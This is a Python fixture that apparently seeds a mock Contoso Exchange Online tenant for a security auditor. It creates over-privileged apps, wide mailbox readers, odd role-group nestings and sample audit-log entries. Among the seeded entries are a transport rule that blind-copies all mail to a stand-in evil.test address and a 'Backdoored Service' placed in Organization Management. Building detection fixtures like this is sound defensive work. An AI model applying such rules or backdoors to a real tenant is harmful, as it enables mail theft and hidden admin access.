"""Contoso's Exchange: applications that administer it or read mailboxes, and its role groups."""

from __future__ import annotations

from auditor.emulator.builder import AppHandle
from auditor.emulator.stories.common import Scene

MANAGE = "Exchange/Exchange.ManageAsApp"

# Application and the directory role that, with Exchange.ManageAsApp, sets what it may do.
LEVELS = (
    ("Exchange Master", "Global Administrator"),
    ("Mailbox Provisioning", "Exchange Recipient Administrator"),
    ("Threat Response", "Security Administrator"),
    ("Compliance Export", "Compliance Administrator"),
    ("Service Desk Bot", "Helpdesk Administrator"),
    ("Exchange Reporter", "Global Reader"),
)


def fill_exchange(scene: Scene) -> None:
    """Everything Exchange Online knows."""
    _administrators(scene)
    _mailboxes(scene)
    _role_groups(scene)
    _partners(scene)
    _cmdlets(scene)


def _app(
    scene: Scene,
    name: str,
    *holds: str,
    roles: tuple[str, ...] = (),
    asks: tuple[str, ...] | None = None,
) -> AppHandle:
    mark = name.lower().replace(" ", "-")
    return scene.build.app(
        name,
        credentials=scene.good_certificate(mark),
        holds=holds,
        asks=asks,
        roles=roles,
        reference=f"CMDB-{mark}",
    )


def _administrators(scene: Scene) -> None:
    build, exchange = scene.build, scene.exchange
    for name, role in LEVELS:
        _app(scene, name, MANAGE, roles=(role,))
    build.app(
        "Exchange Nightly Tasks",
        credentials=build.secret("nightly", -20, 130),
        holds=(MANAGE,),
        roles=("Exchange Administrator",),
        owners=(scene.people["Katherine Johnson"],),
    )
    _app(scene, "Dormant Exchange Tool", MANAGE)
    _app(scene, "Exchange Role Only", roles=("Exchange Administrator",))
    nested = _app(scene, "Nested Exchange Admin", MANAGE)
    group = build.group("Exchange Automation", (nested.principal_id,), for_roles=True)
    build.role(group, "Exchange Administrator")
    scoped = _app(scene, "Scoped Exchange Admin", MANAGE)
    unit = build.guid("administrativeUnit", "Branch Offices")
    build.role(scoped.principal_id, "Exchange Administrator", scope=f"/administrativeUnits/{unit}")
    hygiene = _app(scene, "Hygiene Operator", MANAGE)
    exchange.add_workload("Hygiene Management", hygiene.principal_id)
    journal = _app(scene, "Journal Writer", MANAGE)
    exchange.assign_workload(journal.principal_id, "Journaling")
    for name, handle in (("Hygiene Operator", hygiene), ("Journal Writer", journal)):
        exchange.workload(name, handle.app_id, handle.principal_id)
    _app(scene, "Planned Exchange Tool", asks=(MANAGE,))
    second = "Exchange/Exchange.ManageAsAppV2"
    _app(scene, "Exchange V2 Tool", second, roles=("Exchange Administrator",))


def _mailboxes(scene: Scene) -> None:
    build, exchange = scene.build, scene.exchange
    archive = build.application_named("Mail Archive")
    exchange.policy(archive["appId"], "Archived Mailboxes")
    exchange.workload("Mail Archive", archive["appId"], build.principal_id("Mail Archive"))
    _app(scene, "Mail Crawler", "Graph/Mail.ReadWrite")
    _app(scene, "EWS Migrator", "Exchange/full_access_as_app")
    _app(scene, "IMAP Poller", "Exchange/IMAP.AccessAsApp")
    scoped = _app(scene, "Scoped Mail Reader")
    wide = _app(scene, "Wide Mail Reader")
    exchange.scope("Finance Mailboxes", "Department -eq 'Finance'")
    exchange.scope("Everyone", "Alias -ne $null")
    role = "Application Mail.Read"
    exchange.assign_workload(scoped.principal_id, role, scope="Finance Mailboxes")
    exchange.assign_workload(wide.principal_id, role)
    for name, handle in (("Scoped Mail Reader", scoped), ("Wide Mail Reader", wide)):
        exchange.workload(name, handle.app_id, handle.principal_id)
    gone = build.guid("principal", "gone from Entra")
    exchange.workload("Forgotten Connector", build.guid("appid", "gone from Entra"), gone)


def _role_groups(scene: Scene) -> None:
    build, exchange, people = scene.build, scene.exchange, scene.people
    top = "Organization Management"
    exchange.add_user(top, "Katherine Johnson", people["Katherine Johnson"])
    exchange.add_workload(top, build.principal_id("Backdoored Service"))
    exchange.role_group("Mail Team", ("Mail Recipients",))
    exchange.role_group("Mail Team Leads", ("Message Tracking",))
    exchange.nest("Mail Team", "Mail Team Leads")
    exchange.nest("Mail Team Leads", "Mail Team")
    exchange.nest(top, "Mail Team")
    exchange.add_user("Mail Team Leads", "Frances Allen", people["Frances Allen"])
    exchange.add_security_group("Mail Team", "All Staff", build.group_id("All Staff"))
    exchange.add_user("TenantAdmins_{n}", "Tony Hoare", people["Tony Hoare"])
    exchange.assign_group("TenantAdmins_{n}", "Mailbox Import Export")
    exchange.unassign_group("Security Administrator", "Security Admin")
    role_only = build.principal_id("Exchange Role Only")
    exchange.add_workload("ExchangeServiceAdmins_{n}", role_only)


def _partners(scene: Scene) -> None:
    build, exchange = scene.build, scene.exchange
    partner = build.guid("tenant", "Tailspin Partner")
    name = "PartnerRoleGroup_TailspinAdmins"
    exchange.role_group(
        name, ("View-Only Recipients", "Mail Recipients"), kind="PartnerLinked", partner=partner
    )
    exchange.add_partner(name, "Tailspin Admin Agents")
    exchange.add_partner("HelpdeskAdmins_{n}", f"PartnerRoleGroup_{partner}_HelpdeskAgents")


def _cmdlets(scene: Scene) -> None:
    """What was run, as the audit log has it; the auditor may read it."""
    build, exchange = scene.build, scene.exchange
    exchange.assign_workload(scene.client.principal_id, "View-Only Audit Logs")
    exchange.custom_role("Journaling of Branch Offices", "Journaling")
    master = build.application_named("Exchange Master")["appId"]
    mail = build.application_named("Mailbox Provisioning")["appId"]
    exchange.ran(
        master, "New-TransportRule", build.stamp(-3), "Copy all", BlindCopyTo="x@evil.test"
    )
    exchange.ran(master, "Set-AdminAuditLogConfig", build.stamp(-2), "Default", ok=False)
    exchange.ran(mail, "Set-Mailbox", build.stamp(-2), "Frances Allen", Identity="Frances Allen")
    exchange.ran(mail, "Set-Mailbox", build.stamp(-120), "Tony Hoare", Identity="Tony Hoare")
    exchange.ran("", "Set-Mailbox", build.stamp(-1), "Ada Lovelace", user="ada@contoso.example")
